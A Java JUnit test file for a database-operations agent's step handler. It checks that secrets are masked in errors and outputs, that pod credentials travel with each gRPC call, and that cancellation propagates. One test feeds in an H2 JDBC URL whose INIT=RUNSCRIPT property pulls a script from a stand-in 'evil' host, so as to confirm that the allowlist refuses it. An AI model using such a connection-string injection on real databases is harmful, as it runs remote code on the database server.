package io.dbops.agent.task;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.dbops.agent.secrets.PodMaskers;
import io.dbops.proto.v1.ExecuteStepRequest;
import io.dbops.proto.v1.ExecuteStepResponse;
import io.dbops.proto.v1.LiteEngineGrpc;
import io.dbops.proto.v1.StepResult;
import io.dbops.proto.v1.StepStatus;
import io.dbops.protocol.ExecuteStepPayload;
import io.dbops.protocol.Frame;
import io.dbops.protocol.TaskTypes;
import io.dbops.secrets.Masker;
import io.dbops.support.GrpcChannels;
import io.dbops.support.Json;
import io.dbops.support.Secrets;
import io.grpc.Server;
import io.grpc.Status;
import io.grpc.netty.shaded.io.grpc.netty.NettyServerBuilder;
import io.grpc.stub.StreamObserver;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** A real lite engine stand-in over real gRPC that returns the pod's secret in its result. */
class ExecuteStepHandlerTest {
  private static final String SECRET = "db-pa55word-q7";
  private static final String BASE64 = Base64.getEncoder().encodeToString(SECRET.getBytes(StandardCharsets.UTF_8));

  private final GrpcChannels channels = new GrpcChannels("lite engine");
  private final PodMaskers maskers = new PodMaskers();
  private final List<String> authorizations = new java.util.concurrent.CopyOnWriteArrayList<>();
  private final io.dbops.agent.secrets.PodCredentials credentials = new io.dbops.agent.secrets.PodCredentials();
  private final TaskExecutors executors = TaskExecutors.standard(2);
  private final TaskThreads threads = new TaskThreads(executors.workers(), executors.async(), executors.timeouts());
  private Server server;

  @AfterEach
  void stop() throws InterruptedException {
    channels.close();
    executors.workers().shutdownNow();
    executors.async().shutdownNow();
    executors.timeouts().shutdownNow();
    executors.checks().shutdownNow();
    if (server != null) {
      server.shutdownNow().awaitTermination(5, TimeUnit.SECONDS);
    }
  }

  @Test
  void masksTheErrorAndOutputsTheLiteEngineReturns() throws Exception {
    serve(responses -> {
      responses.onNext(ExecuteStepResponse.newBuilder().setResult(StepResult.newBuilder()
          .setStatus(StepStatus.STEP_STATUS_FAILED)
          .setError("password authentication failed for " + SECRET)
          .putOutputs("sql", "ALTER USER app PASSWORD '" + BASE64 + "';")).build());
      responses.onCompleted();
    });
    maskers.put("pod-1", new Masker(List.of(SECRET)));

    TaskOutcome outcome = run(task("pod-1"));

    assertThat(outcome.error()).isEqualTo("password authentication failed for " + Secrets.MASK);
    String output = Json.write(outcome.output());
    assertThat(output).doesNotContain(SECRET, BASE64).contains("PASSWORD '" + Secrets.MASK + "'");
  }

  @Test
  void masksAFailureOfTheCallItself() throws Exception {
    serve(responses -> responses.onError(
        Status.INTERNAL.withDescription("broke while using " + SECRET).asRuntimeException()));
    maskers.put("pod-1", new Masker(List.of(SECRET)));

    assertThatThrownBy(() -> run(task("pod-1")))
        .isInstanceOf(TaskFailedException.class)
        .hasMessageContaining("broke while using " + Secrets.MASK)
        .message().doesNotContain(SECRET);
  }

  /** Starts the step and waits for its outcome, throwing what the outcome's future failed with. */
  private TaskOutcome run(Frame.TaskAssigned task) throws Exception {
    try {
      return handler().start(task, threads).get(30, TimeUnit.SECONDS);
    } catch (java.util.concurrent.ExecutionException e) {
      throw e.getCause() instanceof Exception cause ? cause : e;
    }
  }

  private ExecuteStepHandler handler() {
    return new ExecuteStepHandler(channels, maskers, credentials,
        new io.dbops.agent.policy.DelegatePolicy(io.dbops.agent.policy.Allowlists.of(
            Map.of("DBOPS_ALLOW_CHANGELOG_DIRS", "/srv/changelogs")), null),
        new StageLogs(new okhttp3.OkHttpClient(), null));
  }

  @Test
  void everyCallCarriesThePodsCredential() throws Exception {
    serve(responses -> {
      responses.onNext(ExecuteStepResponse.newBuilder().setResult(StepResult.newBuilder()
          .setStatus(StepStatus.STEP_STATUS_SUCCEEDED)).build());
      responses.onCompleted();
    });
    String token = credentials.issue("pod-1");

    run(task("pod-1"));
    run(task("pod-1"));

    assertThat(authorizations).containsExactly("Bearer " + token, "Bearer " + token);
  }

  @Test
  void aStepTheAllowlistsRefuseNeverReachesTheLiteEngine() throws Exception {
    serve(responses -> responses.onError(Status.INTERNAL.asRuntimeException()));

    assertThatThrownBy(() -> run(task("pod-1", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
        .isInstanceOf(TaskFailedException.class)
        .hasMessage("Step apply refused: JDBC URL property INIT of h2 is never allowed (rule: JDBC properties; it"
            + " loads classes, runs code, touches files or changes server settings, so no setting allows it)");
    assertThat(authorizations).isEmpty();
  }

  @Test
  void aLiteEngineRefusingTheCredentialFailsTheStepSayingWhy() throws Exception {
    serve(responses -> responses.onError(Status.UNAUTHENTICATED.withDescription("missing or wrong pod credential"
        + " (authorization: Bearer <DBOPS_POD_TOKEN>); only this pod's delegate may call it").asRuntimeException()));

    assertThatThrownBy(() -> run(task("pod-1")))
        .hasMessageContaining("refused this delegate's credential (missing or wrong pod credential")
        .hasMessageContaining("only the delegate instance that started a pod may call it");
  }

  @Test
  void startReturnsWhileTheStepRunsAndCancellingItsOutcomeCancelsTheCall() throws Exception {
    java.util.concurrent.CountDownLatch called = new java.util.concurrent.CountDownLatch(1);
    java.util.concurrent.CountDownLatch cancelled = new java.util.concurrent.CountDownLatch(1);
    serve(responses -> { // answers never: the step runs until it is cancelled
      ((io.grpc.stub.ServerCallStreamObserver<ExecuteStepResponse>) responses).setOnCancelHandler(cancelled::countDown);
      called.countDown();
    });

    java.util.concurrent.CompletableFuture<TaskOutcome> outcome = handler().start(task("pod-1"), threads);
    assertThat(called.await(30, TimeUnit.SECONDS)).isTrue();
    assertThat(outcome).isNotDone();
    outcome.cancel(true);

    assertThat(cancelled.await(30, TimeUnit.SECONDS)).as("the lite engine saw the call cancelled").isTrue();
  }

  private void serve(java.util.function.Consumer<StreamObserver<ExecuteStepResponse>> answer) throws Exception {
    io.grpc.Metadata.Key<String> authorization =
        io.grpc.Metadata.Key.of("authorization", io.grpc.Metadata.ASCII_STRING_MARSHALLER);
    server = NettyServerBuilder.forPort(0).addService(io.grpc.ServerInterceptors.intercept(
        new LiteEngineGrpc.LiteEngineImplBase() {
          @Override
          public void executeStep(ExecuteStepRequest request, StreamObserver<ExecuteStepResponse> responses) {
            answer.accept(responses);
          }
        }, new io.grpc.ServerInterceptor() {
          @Override
          public <Q, A> io.grpc.ServerCall.Listener<Q> interceptCall(io.grpc.ServerCall<Q, A> call,
              io.grpc.Metadata headers, io.grpc.ServerCallHandler<Q, A> next) {
            String value = headers.get(authorization);
            authorizations.add(value == null ? "(none)" : value);
            return next.startCall(call, headers);
          }
        })).build().start();
  }

  private Frame.TaskAssigned task(String pod) {
    return task(pod, "jdbc:h2:mem:x");
  }

  private Frame.TaskAssigned task(String pod, String jdbcUrl) {
    ExecuteStepPayload payload = new ExecuteStepPayload("e1", "dev", "apply", pod, "127.0.0.1:" + server.getPort(), 1,
        new ExecuteStepPayload.StepSpec("apply", "changelog.xml", "/srv/changelogs", jdbcUrl, null, null, null, null,
            null, 0, Map.of(), null),
        new ExecuteStepPayload.LogStreamRef("http://127.0.0.1:1", "executions/e1/dev/apply", "t"));
    return new Frame.TaskAssigned("task-1", TaskTypes.EXECUTE_STEP, 1, 30, 60, Json.tree(payload));
  }
}
